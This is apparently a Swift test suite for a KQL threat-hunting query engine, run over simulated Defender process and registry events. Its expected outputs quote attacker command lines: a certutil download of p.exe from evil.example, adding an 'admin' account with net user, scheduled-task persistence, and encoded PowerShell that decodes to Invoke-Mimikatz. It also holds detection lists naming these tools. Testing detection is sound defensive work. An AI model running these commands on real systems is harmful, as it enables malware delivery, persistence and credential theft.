import Testing

/// Multi-stage process hunts over `DeviceProcessEvents` (and the tables they pivot to), in the style of
/// Defender's public advanced-hunting queries.
///
/// Every expected row is derived by hand from ``HuntFixture``.
@Suite("HuntScenario: process hunts")
struct HuntScenarioProcessTests {
  static let database = HuntDatabase(named: "hunts_process")

  let hunts: HuntRunner

  init() throws {
    hunts = try Self.database.runner()
  }

  @Test("Rare parent-child pairs: summarize by pair, leftanti of the common pairs")
  func rareParentChildPairs() throws {
    // Pairs: explorer→chrome ×3 (101-103), explorer→cmd ×3 (104, 105, 111); every other pair occurs once.
    let output = try hunts.run(
      """
      let CommonPairs = DeviceProcessEvents
        | summarize Seen = count() by InitiatingProcessFileName, FileName
        | where Seen >= 2;
      DeviceProcessEvents
      | summarize Count = count() by InitiatingProcessFileName, FileName
      | join kind=leftanti (CommonPairs) on InitiatingProcessFileName, FileName
      | sort by InitiatingProcessFileName asc, FileName asc
      """)
    #expect(output.columns == ["InitiatingProcessFileName", "FileName", "Count"])
    #expect(
      output.rows == [
        ["cmd.exe", "certutil.exe", "1"], ["cmd.exe", "net.exe", "1"], ["cmd.exe", "p.exe", "1"],
        ["cmd.exe", "powershell.exe", "1"], ["cmd.exe", "schtasks.exe", "1"], ["excel.exe", "rundll32.exe", "1"],
        ["powershell.exe", "whoami.exe", "1"], ["rundll32.exe", "cmd.exe", "1"],
        ["winword.exe", "powershell.exe", "1"],
      ])
  }

  @Test("First-seen binaries: arg_min per file name, then only those first seen in the last 4 hours")
  func firstSeenProcesses() throws {
    // ago(4h) = 08:00 and the filter is strict, so chrome (first at 08:00) and cmd (first on 02-27) drop out.
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | summarize arg_min(Timestamp, DeviceName, ProcessCommandLine) by FileName
      | where Timestamp > ago(4h)
      | sort by Timestamp asc
      """)
    #expect(output.columns == ["FileName", "Timestamp", "DeviceName", "ProcessCommandLine"])
    #expect(
      output.rows == [
        ["powershell.exe", "2026-03-01 09:30:00+00", "WS1", "powershell.exe -NoP -enc SW52b2tlLU1pbWlrYXR6"],
        ["rundll32.exe", "2026-03-01 10:00:00+00", "SRV3", #"rundll32.exe C:\Users\Public\x.dll,Start"#],
        [
          "certutil.exe", "2026-03-01 10:15:00+00", "WS1",
          #"certutil.exe -urlcache -split -f http://evil.example/p.exe C:\Temp\p.exe"#,
        ],
        ["p.exe", "2026-03-01 10:20:00+00", "WS1", #"C:\Temp\p.exe"#],
        ["net.exe", "2026-03-01 11:00:00+00", "SRV3", "net.exe user admin P@ss /add"],
        ["whoami.exe", "2026-03-01 11:30:00+00", "WS2", "whoami /all"],
        ["schtasks.exe", "2026-03-01 11:45:00+00", "WS1", #"schtasks /create /tn upd /tr C:\Temp\p.exe"#],
      ])
  }

  @Test("Latest interactive process per device: arg_max(Timestamp, *) keeps one whole row per group")
  func latestProcessPerDevice() throws {
    // d3's only non-system event is 103 (carol's chrome); d2's newest is 114, not the two-day-old 111.
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where AccountName != "system"
      | summarize arg_max(Timestamp, *) by DeviceId
      | project DeviceId, Timestamp, FileName, ReportId, AccountName
      | sort by DeviceId asc
      """)
    #expect(
      output.rows == [
        ["d1", "2026-03-01 11:45:00+00", "schtasks.exe", "115", "alice"],
        ["d2", "2026-03-01 11:30:00+00", "whoami.exe", "114", "bob"],
        ["d3", "2026-03-01 08:10:00+00", "chrome.exe", "103", "carol"],
      ])
  }

  @Test("arg_max(Timestamp, *) by DeviceId: key, then Timestamp, then the other columns in table order")
  func argMaxStarColumnOrder() throws {
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where FileName =~ "cmd.exe"
      | summarize arg_max(Timestamp, *) by DeviceId
      | sort by DeviceId asc
      """)
    #expect(
      Array(output.columns.prefix(6)) == [
        "DeviceId", "Timestamp", "DeviceName", "ActionType", "FileName", "FolderPath",
      ])
    #expect(output.columns.filter { $0 == "DeviceId" || $0 == "Timestamp" }.count == 2)
    let reportId = output.columns.firstIndex(of: "ReportId")
    #expect(
      output.rows.map { row in [row[0], reportId.flatMap { row[$0] }] } == [
        ["d1", "104"], ["d2", "105"], ["d3", "113"],
      ])
  }

  @Test("Encoded PowerShell: parse the -enc argument and decode it with base64_decode_tostring")
  func encodedPowerShellDecoded() throws {
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where FileName =~ "powershell.exe" and ProcessCommandLine has "-enc"
      | parse ProcessCommandLine with * "-enc " Encoded
      | extend Decoded = base64_decode_tostring(Encoded)
      | project DeviceName, Encoded, Decoded
      | sort by DeviceName asc
      """)
    #expect(output.columns == ["DeviceName", "Encoded", "Decoded"])
    #expect(
      output.rows == [
        ["WS1", "SW52b2tlLU1pbWlrYXR6", "Invoke-Mimikatz"],
        ["WS2", "d2hvYW1pIC9hbGw=", "whoami /all"],
      ])
  }

  @Test("Decoded payloads matched against a let list with has_any")
  func decodedPayloadHasAnyLetList() throws {
    // "Invoke-Mimikatz" has the term "Mimikatz"; "whoami /all" has none of the listed terms.
    let output = try hunts.run(
      #"""
      let Suspicious = dynamic(["mimikatz", "DownloadString"]);
      DeviceProcessEvents
      | where ProcessCommandLine contains "-enc"
      | extend Decoded = base64_decode_tostring(extract(@"-enc\s+(\S+)", 1, ProcessCommandLine))
      | where Decoded has_any (Suspicious)
      | project ReportId, Decoded
      | sort by ReportId asc
      """#)
    #expect(output.rows == [["106", "Invoke-Mimikatz"]])
  }

  @Test("Unusually large binaries: a toscalar average used as a let threshold")
  func toscalarAverageThreshold() throws {
    // avg(FileSize) ignores 108's null: 18890 / 14 = 1349.3.
    let output = try hunts.run(
      """
      let AverageSize = toscalar(DeviceProcessEvents | summarize avg(FileSize));
      DeviceProcessEvents
      | where FileSize > AverageSize
      | project ReportId, FileName, FileSize
      | sort by FileSize desc, ReportId asc
      """)
    #expect(
      output.rows == [
        ["106", "powershell.exe", "4500"], ["107", "powershell.exe", "4500"], ["101", "chrome.exe", "2000"],
        ["102", "chrome.exe", "2000"], ["103", "chrome.exe", "2000"], ["109", "certutil.exe", "1500"],
      ])
  }

  @Test("Children of cmd.exe per device: make_set and make_list compared without order")
  func cmdChildrenSetsAndLists() throws {
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where InitiatingProcessFileName == "cmd.exe"
      | summarize Children = make_set(FileName), Lines = make_list(ProcessCommandLine), Spawned = count() by DeviceId
      | sort by DeviceId asc
      """)
    #expect(output.columns == ["DeviceId", "Children", "Lines", "Spawned"])
    #expect(output.rows.map { $0[0] } == ["d1", "d2", "d3"])
    #expect(
      output.rows.map { HuntRunner.set($0[1]) } == [
        ["certutil.exe", "p.exe", "schtasks.exe"], ["powershell.exe"], ["net.exe"],
      ])
    #expect(
      output.rows.map { HuntRunner.strings($0[2])?.sorted() } == [
        [
          #"C:\Temp\p.exe"#, #"certutil.exe -urlcache -split -f http://evil.example/p.exe C:\Temp\p.exe"#,
          #"schtasks /create /tn upd /tr C:\Temp\p.exe"#,
        ].sorted(),
        ["powershell.exe -enc d2hvYW1pIC9hbGw="], ["net.exe user admin P@ss /add"],
      ])
    #expect(output.rows.map { $0[3] } == ["3", "1", "1"])
  }

  @Test("LOLBins from a let list with has_any, with the devices per binary")
  func lolbinsFromLetList() throws {
    let output = try hunts.run(
      """
      let LolBins = dynamic(["certutil.exe", "rundll32.exe", "regsvr32.exe", "mshta.exe"]);
      DeviceProcessEvents
      | where FileName has_any (LolBins)
      | summarize Executions = count(), Devices = make_set(DeviceName) by FileName
      | sort by FileName asc
      """)
    #expect(output.rows.map { [$0[0], $0[1]] } == [["certutil.exe", "1"], ["rundll32.exe", "1"]])
    #expect(output.rows.map { HuntRunner.set($0[2]) } == [["WS1"], ["SRV3"]])
  }

  @Test("Process chain on one device: serialize, prev() and datetime_diff between neighbours")
  func serializedPreviousProcess() throws {
    // d1 in time order: chrome 08:00, cmd 09:00, powershell 09:30, certutil 10:15, p.exe 10:20, schtasks 11:45.
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where DeviceId == "d1"
      | sort by Timestamp asc
      | serialize
      | extend PreviousFile = prev(FileName), GapMinutes = datetime_diff("minute", Timestamp, prev(Timestamp))
      | where PreviousFile == "certutil.exe"
      | project ReportId, FileName, PreviousFile, GapMinutes
      """)
    #expect(output.rows == [["110", "p.exe", "certutil.exe", "5"]])
  }

  @Test("Office applications spawning anything: distinct devices, then count")
  func officeSpawnDistinctDevices() throws {
    // 106 (winword, d1) and 108 (excel, d3).
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where InitiatingProcessFileName in~ ("WINWORD.EXE", "excel.exe", "outlook.exe")
      | distinct DeviceId
      | count
      """)
    #expect(output.columns == ["Count"])
    #expect(output.rows == [["2"]])
  }

  @Test("Account creation: net user /add, with the new account name parsed out")
  func netUserAdd() throws {
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where FileName in~ ("net.exe", "net1.exe") and ProcessCommandLine has "user" and ProcessCommandLine has "/add"
      | parse ProcessCommandLine with * "user " NewUser " " *
      | project DeviceName, AccountName, NewUser
      """)
    #expect(output.rows == [["SRV3", "system", "admin"]])
  }

  @Test("Parent of net.exe by a self-join on DeviceId and ProcessId")
  func parentBySelfJoin() throws {
    let output = try hunts.run(
      """
      let Processes = DeviceProcessEvents | project DeviceId, ProcessId, FileName, ProcessCommandLine;
      DeviceProcessEvents
      | where FileName =~ "net.exe"
      | project DeviceId, ChildFile = FileName, InitiatingProcessId
      | join kind=inner (Processes) on DeviceId, $left.InitiatingProcessId == $right.ProcessId
      | project DeviceId, ChildFile, ParentFile = FileName, ParentCommandLine = ProcessCommandLine
      """)
    #expect(output.rows == [["d3", "net.exe", "cmd.exe", "cmd.exe /c net user admin P@ss /add"]])
  }

  @Test("Grandparent of whoami.exe through two chained joins")
  func grandparentByTwoJoins() throws {
    // 114 whoami ← 107 powershell (pid 1007) ← 105 cmd (pid 1005), all on d2.
    let output = try hunts.run(
      """
      let P = DeviceProcessEvents | project DeviceId, ProcessId, FileName, InitiatingProcessId;
      DeviceProcessEvents
      | where FileName == "whoami.exe"
      | project DeviceId, Child = FileName, ParentId = InitiatingProcessId
      | join kind=inner (P | project DeviceId, ParentId = ProcessId, Parent = FileName, GrandParentId = InitiatingProcessId) on DeviceId, ParentId
      | join kind=inner (P | project DeviceId, GrandParentId = ProcessId, GrandParent = FileName) on DeviceId, GrandParentId
      | project Child, Parent, GrandParent
      """)
    #expect(output.rows == [["whoami.exe", "powershell.exe", "cmd.exe"]])
  }

  @Test("Shell ratio per device over the last day: countif, dcount, round of a real division")
  func shellRatioPerDevice() throws {
    // ago(1d) = 02-28 12:00 drops 111. SRV3: 103,108,112,113; WS1: 101,104,106,109,110,115; WS2: 102,105,107,114.
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where Timestamp > ago(1d)
      | summarize Total = count(), Shells = countif(FileName in~ ("cmd.exe", "powershell.exe")), Accounts = dcount(AccountName) by DeviceName
      | extend ShellRatio = round(todouble(Shells) / Total, 2)
      | sort by DeviceName asc
      """)
    #expect(output.columns == ["DeviceName", "Total", "Shells", "Accounts", "ShellRatio"])
    #expect(
      output.rows.map { Array($0.prefix(4)) } == [
        ["SRV3", "4", "1", "2"], ["WS1", "6", "2", "1"], ["WS2", "4", "2", "1"],
      ])
    #expect(output.rows.map { $0.count == 5 ? $0[4].flatMap(Double.init) : nil } == [0.25, 0.33, 0.5])
  }

  @Test("A let function with a parameter: distinct children of a parent given in another case")
  func letFunctionChildren() throws {
    let output = try hunts.run(
      """
      let ChildrenOf = (parent:string) { DeviceProcessEvents | where InitiatingProcessFileName =~ parent | project DeviceId, FileName };
      ChildrenOf("CMD.EXE")
      | summarize Children = dcount(FileName)
      """)
    #expect(output.columns == ["Children"])
    #expect(output.rows == [["5"]])
  }

  @Test("Scheduled-task arguments: mv-expand of split() with the item index")
  func schtasksArgumentsWithIndex() throws {
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where FileName =~ "schtasks.exe"
      | extend Args = split(ProcessCommandLine, " ")
      | mv-expand with_itemindex=Index Arg = Args to typeof(string)
      | where Arg startswith "/"
      | project Index, Arg
      | sort by Index asc
      """)
    #expect(output.rows == [["1", "/create"], ["2", "/tn"], ["4", "/tr"]])
  }

  @Test("Reconnaissance alert text: has on a whole term, strcat of the context")
  func whoamiAlertText() throws {
    // 104 "cmd.exe /c whoami" and 114 "whoami /all"; 107's whoami is still base64-encoded.
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where ProcessCommandLine has "whoami"
      | extend Alert = strcat(DeviceName, ":", AccountName, ":", FileName)
      | project ReportId, Alert
      | sort by ReportId asc
      """)
    #expect(output.rows == [["104", "WS1:alice:cmd.exe"], ["114", "WS2:bob:whoami.exe"]])
  }

  @Test("No hits: summarize without by still returns one row with 0 and an empty set")
  func noHitsStillOneRow() throws {
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where FileName =~ "mimikatz.exe" or ProcessCommandLine has "sekurlsa"
      | summarize Hits = count(), Devices = make_set(DeviceId)
      """)
    #expect(output.columns == ["Hits", "Devices"])
    #expect(output.rows.map { $0.first ?? nil } == ["0"])
    #expect(output.rows.map { HuntRunner.set($0.last ?? nil) } == [[]])
  }

  @Test("Shared hosts: distinct device/account pairs, devices with more than one account")
  func devicesWithSeveralAccounts() throws {
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | distinct DeviceId, AccountName
      | summarize Accounts = count() by DeviceId
      | where Accounts > 1
      """)
    #expect(output.rows == [["d3", "2"]])
  }

  @Test("Threat-intel lookup: lookup kind=leftouter against a datatable of hashes")
  func hashLookup() throws {
    let output = try hunts.run(
      """
      let Intel = datatable(SHA256:string, Verdict:string)["h-p", "malicious", "h-cert", "lolbin"];
      DeviceProcessEvents
      | lookup kind=leftouter (Intel) on SHA256
      | where isnotempty(Verdict)
      | project ReportId, FileName, Verdict
      | sort by ReportId asc
      """)
    #expect(output.rows == [["109", "certutil.exe", "lolbin"], ["110", "p.exe", "malicious"]])
  }

  @Test("Second process on each device: serialized row_number restarting when the device changes")
  func rowNumberRestartsPerDevice() throws {
    // Over the last day, per device in time order: d1 101, 104; d2 102, 105; d3 103, 108.
    let output = try hunts.run(
      """
      DeviceProcessEvents
      | where Timestamp > ago(1d)
      | sort by DeviceId asc, Timestamp asc
      | extend Seq = row_number(1, prev(DeviceId) != DeviceId)
      | where Seq == 2
      | project DeviceId, ReportId, FileName
      """)
    #expect(output.rows == [["d1", "104", "cmd.exe"], ["d2", "105", "cmd.exe"], ["d3", "108", "rundll32.exe"]])
  }

  @Test("Download host and path: parse kind=regex with typed captures")
  func parseKindRegexUrl() throws {
    let output = try hunts.run(
      #"""
      DeviceProcessEvents
      | where FileName == "certutil.exe"
      | parse kind=regex ProcessCommandLine with @"https?://" Host:string "/" UrlPath:string @"\s"
      | project Host, UrlPath
      """#)
    #expect(output.rows == [["evil.example", "p.exe"]])
  }

  @Test("Encoded payloads stored in the registry: parse-where drops the values that do not match")
  func parseWhereRegistryPayload() throws {
    let output = try hunts.run(
      """
      DeviceRegistryEvents
      | parse-where RegistryValueData with * "-enc " Payload
      | extend Decoded = base64_decode_tostring(Payload)
      | project ReportId, Payload, Decoded
      """)
    #expect(output.rows == [["302", "d2hvYW1pIC9hbGw=", "whoami /all"]])
  }

  @Test("Slim registry rows: project-away with a wildcard")
  func projectAwayWildcard() throws {
    let output = try hunts.run(
      """
      DeviceRegistryEvents
      | where ReportId == 301
      | project ReportId, DeviceName, RegistryKey, RegistryValueName, RegistryValueData
      | project-away Registry*
      """)
    #expect(output.columns == ["ReportId", "DeviceName"])
    #expect(output.rows == [["301", "WS1"]])
  }
}
